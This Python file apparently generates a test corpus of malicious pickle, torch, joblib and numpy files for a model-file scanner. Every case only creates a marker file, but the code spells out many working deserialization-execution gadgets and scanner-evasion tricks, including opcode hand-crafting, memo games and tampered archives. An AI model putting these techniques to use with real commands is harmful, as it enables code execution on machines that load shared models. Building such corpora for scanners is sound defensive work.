"""Pickles that run something when they are loaded, each in another way. All they do is to make the file `highwater-mark`."""
import gzip
import io
import os
import pickle
import struct
import zipfile

MARK = "highwater-mark"
COMMAND = "touch " + MARK
CODE = "open('%s', 'w').close()" % MARK
CASES = {}


def case(file_name=None, loader="pickle"):
    """A function that gives the bytes of the file, or writes it when it is given the path."""

    def register(make):
        def write(path):
            content = make(path) if make.__code__.co_argcount else make()
            if content is not None:
                with open(path, "wb") as file:
                    file.write(content)

        CASES[make.__name__] = (file_name or make.__name__ + ".pkl", loader, write)
        return make

    return register


class Call:
    """Pickles as a call: the callable by its name, with these arguments."""

    def __init__(self, callable, *arguments):
        self.reduced = callable, arguments

    def __reduce__(self):
        return self.reduced


def called(callable, *arguments, protocol=4):
    return pickle.dumps(Call(callable, *arguments), protocol)


# Opcodes by hand, for what no pickler writes.
def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def name(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


START, STOP = b"\x80\x04", b"."
SYSTEM = name("os", "system")


# --- plain calls


@case()
def os_system():
    return called(os.system, COMMAND)


@case()
def os_system_protocol_0():
    return called(os.system, COMMAND, protocol=0)


@case()
def builtins_eval():
    return called(eval, CODE)


@case()
def builtins_exec():
    return called(exec, CODE)


@case()
def subprocess_popen():
    import subprocess

    return called(subprocess.check_call, ["sh", "-c", COMMAND])


@case()
def pickle_in_pickle():
    return called(pickle.loads, called(os.system, COMMAND))


@case()
def python_2_name():
    return b"ccommands\ngetoutput\n(S'" + COMMAND.encode() + b"'\ntR."


@case()
def marshalled_code():
    import marshal

    code = marshal.dumps(compile(CODE, "x", "exec"))
    function = call(name("types", "FunctionType"), call(name("marshal", "loads"), b"B" + struct.pack("<I", len(code)) + code), b"}")
    return START + call(function) + STOP


# --- names that are found in other ways


@case()
def nested_getattr():
    get = name("builtins", "getattr")
    module = call(call(get, name("builtins", "object"), text("__class__")), name("builtins", "object"))
    system = call(get, call(name("builtins", "__import__"), text("os")), text("system"))
    return START + module + b"0" + call(system, text(COMMAND)) + STOP


@case()
def attrgetter():
    system = call(call(name("operator", "attrgetter"), text("system")), call(name("importlib", "import_module"), text("os")))
    return START + call(system, text(COMMAND)) + STOP


@case()
def methodcaller():
    make = call(name("operator", "methodcaller"), text("system"), text(COMMAND))
    return START + call(make, call(name("importlib", "import_module"), text("os"))) + STOP


@case()
def functools_partial():
    import functools

    class Partial:
        def __reduce__(self):
            return functools.partial(os.system, COMMAND), ()

    return pickle.dumps(Partial(), 4)


@case()
def map_over_a_list():
    return START + call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, b"(" + text(COMMAND) + b"l")) + STOP


@case()
def reached_through_another_module():
    return START + call(name("random", "_os.system"), text(COMMAND)) + STOP


@case()
def resolve_name():
    return START + call(call(name("pkgutil", "resolve_name"), text("os:system")), text(COMMAND)) + STOP


@case()
def extension_code():
    register = call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\xf0")
    return START + register + b"0" + call(b"\x82\xf0", text(COMMAND)) + STOP


@case()
def names_made_by_calls():
    def made(word):
        return call(name("builtins", "str"), b"C" + bytes([len(word)]) + word.encode(), text("ascii"))

    return START + call(made("os") + made("system") + b"\x93", text(COMMAND)) + STOP


@case()
def names_hung_on_a_class():
    holder = name("fractions", "Fraction")

    def hang(key, value):
        return holder + b"N}" + text(key) + text(value) + b"s\x86b0"

    system = name("fractions", "Fraction.a") + name("fractions", "Fraction.b") + b"\x93"
    return START + hang("a", "os") + hang("b", "system") + call(system, text(COMMAND)) + STOP


# --- the memo


@case()
def memoised_names():
    memo = text("os") + b"\x940" + text("system") + b"\x940"
    return START + memo + call(b"h\x00h\x01\x93", text(COMMAND)) + STOP


@case()
def memo_numbered_in_two_ways():
    memo = text("os") + b"q\x000" + text("system") + b"q\x010" + text("collections") + b"\x940" + text("OrderedDict") + b"\x940"
    return START + memo + call(b"h\x00h\x01\x93", text(COMMAND)) + STOP


@case()
def memo_entry_put_twice():
    memo = text("collections") + b"q\x000" + text("Counter") + b"q\x010" + text("os") + b"q\x000" + text("system") + b"q\x010"
    return START + memo + call(b"h\x00h\x01\x93", text(COMMAND)) + STOP


@case()
def memo_of_duplicates():
    # DUP puts the module's name back under what looks like the two operands.
    return START + text("os") + b"\x85" + b"0" + text("os") + text("collections") + b"0" + text("system") + b"\x93" + text(COMMAND) + b"\x85R" + STOP


@case()
def memo_index_far_away():
    return START + text("os") + b"r\x40\x42\x0f\x000" + text("system") + b"r\x41\x42\x0f\x000" + call(
        b"j\x40\x42\x0f\x00j\x41\x42\x0f\x00\x93", text(COMMAND)
    ) + STOP


@case()
def memo_index_with_spaces():
    return b"S'os'\np 0 \n0S'system'\np +1\n0\x80\x04g0\ng 1\n\x93(S'" + COMMAND.encode() + b"'\ntR."


# --- other opcodes


@case()
def inst():
    return b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n."


@case()
def obj():
    return b"(cos\nsystem\nS'" + COMMAND.encode() + b"'\no."


@case()
def build_calls_setstate():
    # BUILD calls what __setstate__ of the object is: here exec itself.
    holder = b"ccollections\nChainMap\n)R"
    return holder + b"}S'__setstate__'\ncbuiltins\nexec\nsbS'" + CODE.encode().replace(b"'", b"\\'") + b"'\nb."


# --- where it stands


@case(loader="all pickles")
def second_pickle():
    return pickle.dumps({"weights": [1.0, 2.0]}, 4) + called(os.system, COMMAND)


@case(loader="all pickles")
def second_pickle_behind_a_broken_one():
    return pickle.dumps([1, 2], 4) + called(os.system, COMMAND)[:-1] + b"\xff\xff"


@case()
def broken_behind_the_payload():
    return called(os.system, COMMAND)[:-1] + b"\xff not a pickle any more"


@case()
def cut_off_behind_the_payload():
    # No frame, whose length would tell.
    return START + call(SYSTEM, text(COMMAND))


@case()
def length_too_long_behind_the_payload():
    return called(os.system, COMMAND)[:-1] + b"X\xff\xff\xff\x7f."


@case()
def junk_behind_stop():
    return called(os.system, COMMAND) + b"\x00\x01 and so on " * 20


@case()
def without_header_and_junk():
    return b"N0cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.\n\nplain text here\n"


@case()
def deep_nesting():
    return START + b"]" * 50_000 + call(SYSTEM, text(COMMAND)) + b"0" * 49_999 + STOP


@case("renamed.bin")
def renamed_bin():
    return called(os.system, COMMAND)


@case("renamed.safetensors")
def renamed_safetensors():
    return called(os.system, COMMAND)


@case("renamed.txt")
def renamed_txt():
    return called(os.system, COMMAND)


@case("compressed.pkl.gz", "gzip")
def gzipped():
    return gzip.compress(called(os.system, COMMAND))


# --- less known names of the standard library and others


@case()
def asyncio_submodule():
    # Starts the process, and then stumbles.
    start = name("asyncio.unix_events", "_UnixSubprocessTransport._start")
    holder = call(name("types", "SimpleNamespace"))
    arguments = [holder, b"(" + text("sh") + text("-c") + text(COMMAND) + b"t", b"\x89", b"N", b"N", b"N", b"K\x00"]
    return START + call(start, *arguments) + STOP


@case()
def uuid_command():
    import uuid

    wrapper = Call(uuid._get_command_stdout, "sh", "-c", COMMAND)
    return pickle.dumps(wrapper, 4) if hasattr(uuid, "_get_command_stdout") else None


@case()
def imaplib_stream():
    return START + call(name("imaplib", "IMAP4_stream"), text(COMMAND)) + STOP


@case()
def pydoc_pager():
    return START + call(name("pydoc", "pipepager"), text("x"), text(COMMAND)) + STOP


@case()
def timeit_timeit():
    return START + call(name("timeit", "timeit"), text(CODE), text("pass"), name("time", "perf_counter"), b"K\x01") + STOP


@case()
def profile_run():
    return START + call(name("cProfile", "runctx"), text(CODE), b"}", b"}") + STOP


@case()
def debugger_run():
    return START + call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(CODE)) + STOP


@case()
def site_addpackage():
    # Writes a .pth file, and has it run.
    write = call(name("pathlib", "Path.write_text"), call(name("pathlib", "Path"), text("mark.pth")), text("import os; " + CODE))
    return START + write + b"0" + call(name("site", "addpackage"), text("."), text("mark.pth"), b"N") + STOP


@case()
def interpreters():
    import sys

    module = "_interpreters" if sys.version_info >= (3, 13) else "_xxsubinterpreters"
    made = call(name(module, "create"))
    return START + call(name(module, "run_string"), made, text(CODE)) + STOP


@case()
def file_io():
    return START + call(name("io", "FileIO"), text(MARK), text("w")) + STOP


@case()
def file_handler():
    return START + call(name("logging", "FileHandler"), text(MARK)) + STOP


@case()
def sqlite_file():
    # sqlite makes the file with the first table.
    made = call(name("sqlite3", "connect"), text(MARK))
    return START + call(name("sqlite3", "Connection.execute"), made, text("create table t (c)")) + STOP


@case()
def zip_file():
    return START + call(name("zipfile", "ZipFile"), text(MARK), text("w")) + STOP


@case()
def thread():
    return START + call(name("_thread", "start_new_thread"), SYSTEM, b"(" + text(COMMAND) + b"t") + b"0" + call(
        name("time", "sleep"), b"K\x01"
    ) + STOP


@case()
def f2py_eval():
    import numpy.f2py  # noqa: F401

    return START + call(name("numpy.f2py.crackfortran", "getlincoef"), text(CODE), b"}") + STOP


@case()
def pandas_handle():
    import pandas  # noqa: F401

    return START + call(name("pandas.io.common", "get_handle"), text(MARK), text("w")) + STOP


@case()
def torch_collect_env():
    import torch  # noqa: F401

    return START + call(name("torch.utils.collect_env", "run"), text(COMMAND)) + STOP


# --- inside of other formats


def archive(pickled):
    import torch

    out = io.BytesIO()
    torch.save({"weight": torch.zeros(4)}, out)
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_STORED) as new:
        for member in old.namelist():
            new.writestr(member, pickled if member.endswith("/data.pkl") else old.read(member))
    return bytearray(made.getvalue())


def places(data, member=b"/data.pkl"):
    """Where the local header and the directory entry of the member begin."""
    found = []
    for magic, length in ((b"PK\x03\x04", 30), (b"PK\x01\x02", 46)):
        at = data.find(magic)
        while at >= 0:
            (size,) = struct.unpack_from("<H", data, at + (26 if length == 30 else 28))
            if data[at + length : at + length + size].endswith(member):
                found.append(at)
                break
            at = data.find(magic, at + 4)
    return found


@case("archive.pt", "torch")
def torch_archive():
    return archive(called(os.system, COMMAND))


@case("wrong_crc.pt", "torch")
def torch_archive_wrong_crc():
    data = archive(called(os.system, COMMAND))
    local, entry = places(data)
    data[local + 14 : local + 18] = data[entry + 16 : entry + 20] = b"\x01\x02\x03\x04"
    return data


@case("flags.pt", "torch")
def torch_archive_encrypted_flag():
    data = archive(called(os.system, COMMAND))
    local, _ = places(data)
    data[local + 6] |= 1
    return data


@case("two_names.pt", "torch")
def torch_archive_two_names():
    data = archive(called(os.system, COMMAND))
    local, _ = places(data)
    at = data.find(b"data.pkl", local)
    data[at : at + 8] = b"data.txt"
    return data


@case("renamed_archive.ckpt2", "torch")
def torch_archive_renamed():
    return archive(called(os.system, COMMAND))


@case("old_form.pt", "torch")
def torch_old_form():
    return torch_legacy()


def torch_legacy():
    import torch

    out = io.BytesIO()
    torch.save(Call(os.system, COMMAND), out, _use_new_zipfile_serialization=False)
    return out.getvalue()


@case()
def torch_inside_of_pickle():
    import torch

    return called(torch.storage._load_from_bytes, torch_legacy())


@case("compressed.joblib", "joblib")
def joblib_zlib(path):
    import joblib

    joblib.dump({"model": Call(os.system, COMMAND)}, path, compress=3)


@case("compressed_xz.joblib", "joblib")
def joblib_xz(path):
    import joblib

    joblib.dump({"model": Call(os.system, COMMAND)}, path, compress=("xz", 3))


@case("objects.joblib", "joblib")
def joblib_array_of_objects(path):
    import joblib
    import numpy

    objects = numpy.empty(1, dtype=object)
    objects[0] = Call(os.system, COMMAND)
    joblib.dump({"weights": numpy.zeros(100), "names": objects}, path)


@case("objects.npy", "numpy")
def npy_of_objects(path):
    import numpy

    objects = numpy.empty(1, dtype=object)
    objects[0] = Call(os.system, COMMAND)
    numpy.save(path, objects)


@case("objects.npz", "numpy")
def npz_of_objects(path):
    import numpy

    objects = numpy.empty(1, dtype=object)
    objects[0] = Call(os.system, COMMAND)
    numpy.savez(path, weights=numpy.zeros(100), names=objects)
